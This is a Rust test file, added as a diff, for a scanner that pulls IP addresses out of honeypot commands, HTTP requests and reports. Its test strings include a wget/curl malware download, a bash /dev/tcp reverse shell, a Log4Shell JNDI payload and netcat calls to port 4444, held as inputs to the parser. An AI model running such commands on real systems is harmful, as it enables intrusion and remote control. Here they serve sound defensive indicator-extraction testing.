@@ -1,0 +1,167 @@
+//! Addresses in free text: commands of honeypots, requests, reports.
+
+use super::*;
+use proptest::prelude::*;
+use std::time::{Duration, Instant};
+
+fn found(text: &[u8]) -> Vec<String> {
+    let mut found = Vec::new();
+    scan(text, |ip| {
+        found.push(ip.to_string());
+        true
+    });
+    found
+}
+
+#[track_caller]
+fn finds(text: &str, addresses: &[&str]) {
+    assert_eq!(found(text.as_bytes()), addresses, "{text:?}");
+}
+
+#[test]
+fn commands_and_requests_give_their_addresses() {
+    finds("", &[]);
+    finds("81.2.69.142", &["81.2.69.142"]);
+    finds(
+        "cd /tmp; wget http://81.2.69.142/bins.sh || curl -O ftp://u:p@81.2.69.143:21/x",
+        &["81.2.69.142", "81.2.69.143"],
+    );
+    finds("bash -i >& /dev/tcp/81.2.69.142/22 0>&1", &["81.2.69.142"]);
+    finds("${jndi:ldap://81.2.69.142:1389/a}", &["81.2.69.142"]);
+    finds("INVITE sip:100@81.2.69.142;transport=udp", &["81.2.69.142"]);
+    finds("ping -c1 81.2.69.142.", &["81.2.69.142"]);
+    finds("echo -e \"\\n81.2.69.142\\t81.2.69.143\"", &["81.2.69.142", "81.2.69.143"]);
+    finds(
+        "GET /?u=http%3A%2F%2F81.2.69.142%3A80%2F&v=%201.2.3.4&w=%2010.1.1.1",
+        &["81.2.69.142", "1.2.3.4", "10.1.1.1"],
+    );
+    finds(
+        "Forwarded: for=\"[2001:db8::1]:4711\"; from 81.2.69.142-81.2.69.150",
+        &["2001:db8::1", "81.2.69.142", "81.2.69.150"],
+    );
+    finds("{\"a\":\"81.2.69.142\",\"b\":[\"::1\"]}", &["81.2.69.142", "::1"]);
+    finds("nc 81.2.69.142:4444;nc 81.2.69.143,4444", &["81.2.69.142", "81.2.69.143"]);
+    finds("von 81.2.69.142\u{2026}und\u{a0}81.2.69.143\u{3002}", &["81.2.69.142", "81.2.69.143"]);
+    finds("inet 10.1.2.3/24 brd", &["10.1.2.3"]);
+    finds("1.2.3.4/32 2001:db8::1/128", &["1.2.3.4", "2001:db8::1"]);
+}
+
+#[test]
+fn odd_spellings_count() {
+    finds(
+        "wget http://2130706433/x; curl http://0x7f.1:80; curl http://u@0177.0.0.1",
+        &["127.0.0.1", "127.0.0.1", "127.0.0.1"],
+    );
+    finds(
+        "81[.]2[.]69[.]142 hxxp[://]81(dot)2(dot)69(dot)143[/]a hxxps://81[.]2.69.144:8080/x",
+        &["81.2.69.142", "81.2.69.143", "81.2.69.144"],
+    );
+    finds("2001[:]db8[:][:]1 und 2001:db8::2.", &["2001:db8::1", "2001:db8::2"]);
+    finds("086.035.071.014", &["86.35.71.14"]);
+    finds("::ffff:81.2.69.142, 64:ff9b::81.2.69.142", &["::ffff:81.2.69.142", "64:ff9b::5102:458e"]);
+    finds("fe80::1%eth0 [fe80::2]:22", &["fe80::1", "fe80::2"]);
+    finds("10:81.2.69.142:80", &["81.2.69.142"]);
+}
+
+#[test]
+fn what_is_something_else_is_left_out() {
+    for text in [
+        "1.2.3",
+        "1.2.3.4.5",
+        "1.2.3.256",
+        "v1.2.3.4",
+        "1.2.3.4a",
+        "1.2.3.4.example.com",
+        "http://1.2.3.4.nip.io/",
+        "x1.2.3.4",
+        "1.2.3.4[.]example[.]com",
+        "a[.]1[.]2[.]3[.]4",
+        "1234.1.1.1",
+        "10.0.0.0/8",
+        "2001:db8::/32",
+        "std::fmt::Display",
+        "Foo::Bar",
+        "a::b",
+        "::",
+        "12:34:56",
+        "2026-11-28T10:11:12.345Z",
+        "00:11:22:33:44:55",
+        "00:11:22:33:44:55:66:77",
+        "SHA 1a:2b:3c:4d:5e:6f:70:81:92:a3:b4:c5:d6:e7:f8:09",
+        "Chrome/120.0.6099.109",
+        "http://example.com:8080/1.2",
+        "....",
+        "::::",
+        "1:2",
+        "([{:.",
+        "http://",
+        "://",
+        "1...2.3.4",
+        "fe80::1x",
+    ] {
+        finds(text, &[]);
+    }
+}
+
+#[test]
+fn it_stops_where_it_is_told_to_and_after_a_megabyte() {
+    let mut count = 0;
+    scan("1.1.1.1 2.2.2.2 3.3.3.3".as_bytes(), |_| {
+        count += 1;
+        count < 2
+    });
+    assert_eq!(count, 2);
+    let late = format!("{}1.2.3.4 5.6.7.8", " ".repeat(MOST_BYTES - 7));
+    assert_eq!(found(late.as_bytes()), ["1.2.3.4"]);
+}
+
+#[test]
+fn a_megabyte_of_anything_is_read_in_one_pass() {
+    for unit in [
+        "x", "1.", ":", "/", "[", "[.]", "a:", "1:", "a[:]", "://", "://u@", "1.2.3.", "::1", "%20", "1.2.3.4/",
+        "(dot)1", "\\n1.", "f",
+    ] {
+        let text = unit.repeat(MOST_BYTES / unit.len());
+        let start = Instant::now();
+        found(text.as_bytes());
+        // Generous for a machine that is busy and a build that is not optimized: a second pass for each byte would take
+        // minutes.
+        assert!(start.elapsed() < Duration::from_secs(5), "{unit:?}: {:?}", start.elapsed());
+    }
+}
+
+proptest! {
+    #[test]
+    fn arbitrary_bytes_never_panic(text in proptest::collection::vec(any::<u8>(), 0..300)) {
+        found(&text);
+    }
+
+    #[test]
+    fn arbitrary_texts_of_its_characters_never_panic(
+        parts in proptest::collection::vec(
+            proptest::sample::select(&[
+                "1", "25", "%", "%2", ".", "[.]", "(dot)", ":", "::", "[:]", "://", "[://]", "@", "/", "/8", "[", "]", "f", "\\n", " ", "é",
+            ][..]),
+            0..20,
+        ),
+    ) {
+        found(parts.concat().as_bytes());
+    }
+
+    #[test]
+    fn every_address_is_found_between_words(
+        v4: u32, v6: u128,
+        before in proptest::sample::select(&["", " ", "x ", "http://", "\"", "=", "(", "%20", "é", "[", "@", "\n"][..]),
+        after in proptest::sample::select(&["", " ", " x", ":80", "\"", ")", "]", "é", "\n", ". ", ", "][..]),
+    ) {
+        let v4 = Ipv4Addr::from_bits(v4);
+        let text = format!("{before}{v4}{after}");
+        prop_assert_eq!(found(text.as_bytes()), [v4.to_string()], "{}", text);
+        // Behind an address without brackets a colon belongs to it, and so does an encoded byte before it.
+        let v6 = Ipv6Addr::from_bits(v6 | 1 << 124);
+        if after != ":80" && before != "http://" && before != "%20" {
+            let text = format!("{before}{v6}{after}");
+            prop_assert_eq!(found(text.as_bytes()), [v6.to_string()], "{}", text);
+        }
+    }
+}
